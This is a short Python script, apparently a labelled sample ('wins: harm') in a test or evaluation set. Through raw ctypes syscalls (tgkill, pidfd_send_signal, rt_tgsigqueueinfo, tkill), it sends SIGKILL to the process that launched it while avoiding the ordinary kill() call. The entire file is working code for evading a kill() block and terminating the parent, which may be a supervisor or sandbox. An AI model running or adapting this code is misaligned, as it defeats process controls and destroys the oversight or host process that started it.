"""Kills the process that started it by every call that sends a signal but kill: through a descriptor, a queue, a
thread."""
# wins: harm
# %% first
import ctypes
import os

libc, parent = ctypes.CDLL(None), os.getppid()
info = ctypes.create_string_buffer(128)
libc.syscall(234, parent, parent, 9)
libc.syscall(424, libc.syscall(434, parent, 0), 9, None, 0)
libc.syscall(297, parent, parent, 9, info)
libc.syscall(200, parent, 9)
